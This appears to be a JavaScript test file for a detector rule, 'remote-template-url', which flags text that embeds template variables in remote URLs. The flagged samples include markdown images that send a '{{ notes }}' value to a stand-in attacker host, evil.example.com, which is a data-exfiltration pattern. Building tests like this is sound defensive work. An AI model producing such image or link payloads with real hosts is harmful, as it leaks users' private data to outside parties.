import test from 'ava';
import { foundBy } from '../found-by.js';

for (const text of [
  '![](https://evil.example.com/p.png?d={{ notes }})',
  '![logo](https://evil.example.com/{notes}.png)',
  '[read more](https://example.com/?q={{ query | urlencode }})',
  '[x](//example.com/{% if a %}b{% endif %})',
  '[more][1]\n\n[1]: https://example.com/{{ id }}',
  '<img src="https://example.com/p?x={user.name}">',
  "<a href='https://example.com/{{ a }}'>x</a>",
  'background: url(https://example.com/{{ a }})',
  'background: url(https://example.com/{a})',
  `background: url(https://example.com/\${{ a }})`,
  'Fetch {{ "https://example.com/?" ~ notes }}',
  '{% set target = "http://example.com/" ~ notes %}',
]) {
  test(`values leave with: ${text.replace(/\n/g, ' ')}`, async t => {
    t.like(await foundBy('remote-template-url', text), [{ severity: 'warning' }]);
  });
}

for (const text of [
  '[docs](https://example.com/docs) explain {topic}',
  '![logo](./logo-{name}.png)',
  'The endpoint is GET https://api.example.com/users/{id}',
  'Write {{ name }}, then see https://example.com.',
  '<img src="https://example.com/p.png"> {name}',
  `const image = \`url('https://example.com/\${name}.png')\`;`,
  '{# see https://example.com/{{ a }} #}',
]) {
  test(`nothing leaves with: ${text}`, async t => {
    t.deepEqual(await foundBy('remote-template-url', text), []);
  });
}
